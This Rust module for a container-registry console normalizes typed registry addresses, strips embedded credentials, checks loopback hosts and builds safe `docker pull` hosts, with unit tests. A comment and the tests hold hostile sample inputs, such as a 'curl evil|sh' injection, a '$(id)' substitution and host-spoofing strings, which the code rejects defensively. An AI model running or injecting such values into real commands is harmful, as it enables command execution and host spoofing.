//! What the user types as a registry, made into a base URL; the list of registries
//! used before; and the configuration a registry needs to let this page in.

use thiserror::Error;

pub const MAX_RECENT: usize = 8;

/// Why typed text is no registry address. A terse log line; what a person reads is
/// `wording::address_error`'s.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum AddressError {
    #[error("empty address")]
    Empty,
    #[error("scheme other than http and https")]
    UnsupportedScheme,
    #[error("no host in {0:?}")]
    NoHost(String),
    #[error("blank in {0:?}")]
    Blank(String),
    /// A host (or port) a browser would read otherwise than shown: a `\`, `%`, a
    /// bare IPv6 address, a port out of range.
    #[error("not a host name and port: {0:?}")]
    BadHost(String),
}

/// `localhost:5000/v2/` → `http://localhost:5000`. No scheme means https, except
/// for loopback hosts, which are almost always plain-http test registries. User
/// names and passwords are dropped: they must never land in the address bar.
pub fn normalize_registry_address(input: &str) -> Result<String, AddressError> {
    let input = input.trim();
    if input.is_empty() {
        return Err(AddressError::Empty);
    }
    let (scheme, rest) = match input.split_once("://") {
        Some((scheme, rest)) => (Some(scheme.to_ascii_lowercase()), rest),
        None => (None, input),
    };
    if scheme.as_ref().is_some_and(|s| s != "http" && s != "https") {
        return Err(AddressError::UnsupportedScheme);
    }
    // The authority ends at the first '/', '?' or '#'; user names and passwords
    // before '@' are dropped.
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at(end);
    let authority = authority
        .rsplit('@')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if authority.is_empty() || authority.contains(char::is_whitespace) {
        return Err(AddressError::NoHost(without_credentials(input)));
    }
    if path.contains(char::is_whitespace) {
        return Err(AddressError::Blank(without_credentials(input)));
    }
    // Browsers read `\` as `/` and decode `%` in a host: what the page shows and
    // where its requests go must be one host.
    if input.contains('\\') || !is_host_and_port(&authority, |b| b == b'_') {
        return Err(AddressError::BadHost(without_credentials(input)));
    }
    let scheme = match scheme {
        Some(scheme) => scheme,
        None if typed_as_loopback(&authority) => "http".to_owned(),
        None => "https".to_owned(),
    };
    // Only the path: "/v2" (and any trailing slashes around it) is the API, not
    // the base; stripped to a fixed point, so normalizing again changes nothing.
    let mut path = path.split(['?', '#']).next().unwrap_or("");
    loop {
        let trimmed = path.trim_end_matches('/');
        let stripped = trimmed.strip_suffix("/v2").unwrap_or(trimmed);
        if stripped == path {
            break;
        }
        path = stripped;
    }
    Ok(format!("{scheme}://{authority}{path}"))
}

/// Whether `input` carries a user name or password before its host (`user:pw@host`),
/// which [`normalize_registry_address`] leaves out: the console then says so, as the
/// password is not used (signing in is done in the sign-in form, kept in memory only).
pub fn has_credentials(input: &str) -> bool {
    let (_, rest) = split_scheme(input.trim());
    rest[..authority_end(rest)].contains('@')
}

/// `input` as written, without the user name and password before its host: what
/// may be echoed in a message or kept in the page address.
pub fn without_credentials(input: &str) -> String {
    if !has_credentials(input) {
        return input.to_owned();
    }
    let (scheme, rest) = split_scheme(input);
    let host_start = rest[..authority_end(rest)]
        .rfind('@')
        .map_or(0, |at| at + 1);
    format!("{scheme}{}", &rest[host_start..])
}

/// `scheme:` and the slashes after it, as a browser reads them (`\` too), and the
/// rest; no scheme unless a slash follows (`host:5000` has none).
fn split_scheme(input: &str) -> (&str, &str) {
    let Some(colon) = input.find(':') else {
        return ("", input);
    };
    let name = &input[..colon];
    let is_scheme = name.starts_with(|c: char| c.is_ascii_alphabetic())
        && (name.bytes()).all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b));
    let after = &input[colon + 1..];
    let slashes = after.len() - after.trim_start_matches(['/', '\\']).len();
    if is_scheme && slashes > 0 {
        input.split_at(colon + 1 + slashes)
    } else {
        ("", input)
    }
}

/// Where the authority of `rest` (after the scheme) ends: at the first `/`, `\`
/// (a browser's `/`), `?` or `#`.
fn authority_end(rest: &str) -> usize {
    rest.find(['/', '\\', '?', '#']).unwrap_or(rest.len())
}

/// `localhost`, `127.x.y.z` or `[::1]`, with or without a port: the scheme a typed
/// address without one gets. Only a guess at what the user meant (a wrong one just
/// fails to connect), so it is loose about the port; whether credentials may go
/// over plain http is the strict [`is_loopback_authority`]'s call.
fn typed_as_loopback(authority: &str) -> bool {
    let host = if authority.starts_with('[') {
        match authority.find(']') {
            Some(close) if matches!(authority[close + 1..].chars().next(), None | Some(':')) => {
                &authority[..=close]
            }
            _ => return false,
        }
    } else {
        authority.split(':').next().unwrap_or("")
    };
    let ipv4_loopback = {
        let octets: Vec<&str> = host.split('.').collect();
        octets.len() == 4
            && octets[0] == "127"
            && octets
                .iter()
                .all(|o| !o.is_empty() && o.len() <= 3 && o.bytes().all(|b| b.is_ascii_digit()))
    };
    host == "localhost" || host == "[::1]" || ipv4_loopback
}

/// Whether `authority` (`host[:port]`, as in a URL after `scheme://`) is this
/// computer: `localhost`, a `*.localhost` name, `127.d.d.d` (decimal octets 0-255)
/// or `[::1]`, with an optional numeric port. Strict, since plain http carries
/// credentials only there: anything else in the authority (a user name before
/// `@`, a `\`, which browsers read as `/`, a DNS name that merely starts with `127.`)
/// is not loopback.
pub fn is_loopback_authority(authority: &str) -> bool {
    host_of_authority(authority).is_some_and(is_loopback_host)
}

/// The host of `host[:port]` (a bracketed IPv6 host keeps its brackets), when the
/// port, if any, is a number 1-65535; `None` for anything else after the host.
pub fn host_of_authority(authority: &str) -> Option<&str> {
    let host_end = if authority.starts_with('[') {
        authority.find(']')? + 1
    } else {
        authority.find(':').unwrap_or(authority.len())
    };
    let (host, port) = authority.split_at(host_end);
    let port_ok = port.is_empty()
        || port.strip_prefix(':').is_some_and(|digits| {
            (1..=5).contains(&digits.len())
                && digits.bytes().all(|b| b.is_ascii_digit())
                && digits.parse::<u16>().is_ok_and(|port| port > 0)
        });
    port_ok.then_some(host)
}

/// `host[:port]`: a DNS name or IPv4 address (labels of letters, digits, `-` and
/// whatever else `also` allows), or a bracketed IPv6 address, and a port 1-65535.
pub fn is_host_and_port(authority: &str, also: impl Fn(u8) -> bool) -> bool {
    host_of_authority(authority).is_some_and(|host| match host.strip_prefix('[') {
        Some(v6) => {
            let address = v6.trim_end_matches(']');
            !address.is_empty()
                && address
                    .bytes()
                    .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.')
        }
        None => host.split('.').all(|label| {
            !label.is_empty()
                && (label.bytes()).all(|b| b.is_ascii_alphanumeric() || b == b'-' || also(b))
        }),
    })
}

/// Letters, digits and `-`, not empty: a DNS label (or an IPv4 octet).
pub fn is_host_label(label: &str) -> bool {
    !label.is_empty()
        && label
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

/// `localhost`, `*.localhost` (labels of letters, digits and `-` only), `127.d.d.d`
/// with decimal octets 0-255 (no leading zeros: browsers read those as octal), or
/// `[::1]`.
fn is_loopback_host(host: &str) -> bool {
    let localhost = host.eq_ignore_ascii_case("localhost")
        || host.rsplit_once('.').is_some_and(|(name, last)| {
            last.eq_ignore_ascii_case("localhost") && name.split('.').all(is_host_label)
        });
    let octet_ok = |octet: &str| {
        (1..=3).contains(&octet.len())
            && octet.bytes().all(|b| b.is_ascii_digit())
            && (octet == "0" || !octet.starts_with('0'))
            && octet.parse::<u16>().is_ok_and(|n| n <= 255)
    };
    let ipv4_loopback = {
        let octets: Vec<&str> = host.split('.').collect();
        octets.len() == 4 && octets[0] == "127" && octets.iter().all(|o| octet_ok(o))
    };
    localhost || ipv4_loopback || host == "[::1]"
}

/// `host[:port]` as `docker pull` wants it, or `None` when the address holds anything
/// else. The address may come from a link (`?registry=`), and the command is copied
/// into a shell: a path such as `/x;curl evil|sh;` must never reach it. A host that
/// docker would not read as a registry (no `.`, no port, not `localhost`) gets its
/// scheme's port: `harbor/team/app` pulls Docker Hub's namespace `harbor`, an image
/// anyone could have pushed, where `harbor:443/team/app` pulls from this registry.
pub fn pull_host(base_url: &str) -> Option<String> {
    let rest = base_url.split_once("://").map_or(base_url, |(_, r)| r);
    let host = rest.trim_end_matches('/');
    // A bracketed IPv6 host holds colons of its own: its port follows the ']'.
    let (name, port) = match host.strip_prefix('[') {
        Some(_) => match host.rfind(']') {
            Some(close) if close + 1 == host.len() => (host, None),
            Some(close) => (&host[..=close], Some(host[close + 1..].strip_prefix(':')?)),
            None => return None,
        },
        None => match host.rsplit_once(':') {
            Some((name, port)) => (name, Some(port)),
            None => (host, None),
        },
    };
    let name_ok = !name.is_empty()
        && (name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
            || (name.starts_with('[')
                && name.ends_with(']')
                && name[1..name.len() - 1]
                    .bytes()
                    .all(|b| b.is_ascii_hexdigit() || b == b':')));
    let port_ok =
        port.is_none_or(|p| !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()));
    if !(name_ok && port_ok) {
        return None;
    }
    let read_as_registry = port.is_some() || name.contains(['.', ':']) || name == "localhost";
    Some(match (read_as_registry, base_url.starts_with("http://")) {
        (true, _) => host.to_owned(),
        (false, true) => format!("{host}:80"),
        (false, false) => format!("{host}:443"),
    })
}

/// Puts `address` first in `recent`, without duplicates, keeping at most MAX_RECENT.
pub fn remember(recent: &[String], address: &str) -> Vec<String> {
    let mut updated = vec![address.to_owned()];
    updated.extend(recent.iter().filter(|r| *r != address).cloned());
    updated.truncate(MAX_RECENT);
    updated
}

/// The `http.headers` block of distribution's config.yml that lets `origin` in.
pub fn cors_config_snippet(origin: &str) -> String {
    format!(
        "http:\n  headers:\n    Access-Control-Allow-Origin: ['{origin}']\n    \
         Access-Control-Allow-Methods: ['HEAD', 'GET', 'OPTIONS', 'PUT', 'POST', 'PATCH', 'DELETE']\n    \
         Access-Control-Allow-Headers: ['Authorization', 'Accept', 'Content-Type']\n    \
         Access-Control-Expose-Headers: ['Docker-Content-Digest', 'Link', 'Location', 'WWW-Authenticate', 'Content-Length']\n"
    )
}

/// An nginx server block serving the console and the registry on one origin. As
/// deploy/nginx does: Host and SNI name the registry (an HTTPS or name-based one needs
/// them); X-Forwarded-Host and -Proto this origin, from which distribution builds its
/// upload Locations.
pub fn same_origin_proxy_snippet(registry: &str) -> String {
    format!(
        "server {{\n    listen 443 ssl;\n    client_max_body_size 0;\n    \
         location /v2/ {{\n        proxy_pass {registry};\n        \
         proxy_set_header Host $proxy_host;\n        proxy_ssl_server_name on;\n        \
         proxy_set_header X-Forwarded-Host $http_host;\n        \
         proxy_set_header X-Forwarded-Proto $scheme;\n    }}\n    \
         location / {{ root /srv/tagdeck; }}   # the console's dist/ folder\n}}\n"
    )
}

/// What tells one registry from another: its base URL, with the scheme and host in
/// lower case and no trailing slash. Not the origin alone: two registries behind one
/// host under different paths have accounts of their own, and a sign-in for one must
/// never send its credentials to the other.
pub fn registry_identity(base_url: &str) -> String {
    let Some((scheme, rest)) = base_url.trim().split_once("://") else {
        return base_url.trim().trim_end_matches('/').to_owned();
    };
    let rest = rest.split(['?', '#']).next().unwrap_or("");
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let (scheme, authority) = (scheme.to_ascii_lowercase(), authority.to_ascii_lowercase());
    // The scheme's own port is the same registry as no port.
    let default_port = match scheme.as_str() {
        "https" => ":443",
        "http" => ":80",
        _ => "",
    };
    let authority = match authority.strip_suffix(default_port) {
        Some(host) if !default_port.is_empty() => host,
        _ => &authority,
    };
    format!("{scheme}://{authority}{}", path.trim_end_matches('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credentials_are_left_out_of_an_address_as_written() {
        assert_eq!(
            without_credentials("https://alice:s3cret@Reg.example:5000/team/"),
            "https://Reg.example:5000/team/"
        );
        assert_eq!(without_credentials("alice:pw@a@reg.example"), "reg.example");
        assert_eq!(
            without_credentials("https://reg.example/p@th"),
            "https://reg.example/p@th"
        );
        match normalize_registry_address("https://alice:s3cret@ /x") {
            Err(AddressError::NoHost(echo) | AddressError::Blank(echo)) => {
                assert!(!echo.contains("s3cret"), "{echo}")
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn registries_under_different_paths_of_one_host_are_told_apart() {
        let a = registry_identity("https://reg.example/team-a");
        assert_ne!(a, registry_identity("https://reg.example/team-b"));
        assert_ne!(a, registry_identity("https://reg.example"));
        assert_eq!(a, registry_identity("HTTPS://Reg.Example/team-a/"));
        assert_eq!(
            registry_identity("http://127.0.0.1:5000/"),
            registry_identity("http://127.0.0.1:5000")
        );
        // A path's case is the registry's to judge: kept.
        assert_ne!(a, registry_identity("https://reg.example/Team-A"));
        // The scheme's own port is no other registry; another port is.
        assert_eq!(a, registry_identity("https://reg.example:443/team-a"));
        assert_eq!(
            registry_identity("http://127.0.0.1:80"),
            registry_identity("http://127.0.0.1")
        );
        assert_ne!(a, registry_identity("https://reg.example:4443/team-a"));
        assert_ne!(a, registry_identity("http://reg.example:443/team-a"));
    }

    #[test]
    fn credentials_in_an_address_are_noticed() {
        assert!(has_credentials("http://admin:hunter2@127.0.0.1:5000"));
        assert!(has_credentials(" user@reg.example/v2/ "));
        assert!(!has_credentials("https://reg.example/v2/"));
        // An '@' after the host is no user name.
        assert!(!has_credentials("reg.example/team@x"));
    }

    #[test]
    fn normalizes_what_people_type() {
        let ok = |s| normalize_registry_address(s).unwrap();
        assert_eq!(ok("localhost:5000"), "http://localhost:5000");
        assert_eq!(ok(" 127.0.0.1:5000/v2/ "), "http://127.0.0.1:5000");
        assert_eq!(ok("registry.example.com"), "https://registry.example.com");
        assert_eq!(ok("HTTP://Reg.Example:8443/"), "http://reg.example:8443");
        assert_eq!(
            ok("https://user:secret@reg.example/v2"),
            "https://reg.example"
        );
        assert_eq!(
            ok("https://proxy.example/registry/"),
            "https://proxy.example/registry"
        );
        assert_eq!(normalize_registry_address("  "), Err(AddressError::Empty));
        assert_eq!(
            normalize_registry_address("ftp://x"),
            Err(AddressError::UnsupportedScheme)
        );
        assert!(matches!(
            normalize_registry_address("http:///v2"),
            Err(AddressError::NoHost(_))
        ));
    }

    #[test]
    fn loopback_is_only_this_computer() {
        for authority in [
            "localhost",
            "localhost:5000",
            "app.localhost:8080",
            "127.0.0.1",
            "127.255.0.10:5000",
            "[::1]",
            "[::1]:5000",
        ] {
            assert!(is_loopback_authority(authority), "{authority}");
        }
        for authority in [
            "127.x.attacker.com",
            "127.0.0.1.attacker.com",
            "127.0.0.256",
            "127.0.0.01",
            "127.0.0",
            "evil.com\\.localhost",
            "evil_com.localhost",
            ".localhost",
            "a..localhost",
            "localhost:5000@evil.com",
            "localhost@evil.com",
            "[::1]@evil.com",
            "[::1].evil.com",
            "[::1",
            "localhost:",
            "localhost:123456",
            "localhost:5x",
            "éé.localhost",
            "example.com",
            "",
        ] {
            assert!(!is_loopback_authority(authority), "{authority}");
        }
    }

    #[test]
    fn remembers_most_recent_first_without_duplicates() {
        let list: Vec<String> = (0..MAX_RECENT).map(|i| format!("http://r{i}")).collect();
        let updated = remember(&list, "http://r3");
        assert_eq!(updated[0], "http://r3");
        assert_eq!(updated.len(), MAX_RECENT);
        assert_eq!(updated.iter().filter(|r| *r == "http://r3").count(), 1);
        let updated = remember(&list, "http://new");
        assert_eq!(updated.len(), MAX_RECENT);
        assert!(!updated.contains(&format!("http://r{}", MAX_RECENT - 1)));
    }

    #[test]
    fn snippets_name_the_origin_and_registry() {
        assert!(cors_config_snippet("http://127.0.0.1:8080").contains("['http://127.0.0.1:8080']"));
        let proxy = same_origin_proxy_snippet("https://registry.example.com");
        assert!(
            proxy.contains("proxy_pass https://registry.example.com;"),
            "{proxy}"
        );
        // The registry's own name upstream, this origin in the forwarded headers.
        assert!(
            proxy.contains("proxy_set_header Host $proxy_host;"),
            "{proxy}"
        );
        assert!(proxy.contains("proxy_ssl_server_name on;"), "{proxy}");
        assert!(
            proxy.contains("proxy_set_header X-Forwarded-Host $http_host;"),
            "{proxy}"
        );
        assert_eq!(
            pull_host("http://127.0.0.1:5000").as_deref(),
            Some("127.0.0.1:5000")
        );
        assert_eq!(
            pull_host("https://registry.example.com/").as_deref(),
            Some("registry.example.com")
        );
        assert_eq!(
            pull_host("http://[::1]:5000").as_deref(),
            Some("[::1]:5000")
        );
        // Without `.` or a port docker would read the host as a Docker Hub namespace.
        assert_eq!(pull_host("https://harbor").as_deref(), Some("harbor:443"));
        assert_eq!(
            pull_host("http://registry/").as_deref(),
            Some("registry:80")
        );
        assert_eq!(pull_host("http://localhost").as_deref(), Some("localhost"));
        assert_eq!(pull_host("https://[::1]").as_deref(), Some("[::1]"));
        for hostile in [
            "http://evil.example/x;curl evil|sh;",
            "http://evil.example:5000/prefix",
            "http://a b",
            "http://host:$(id)",
            "http://host:5000:6000",
            "http://",
        ] {
            assert_eq!(pull_host(hostile), None, "{hostile}");
        }
    }
}
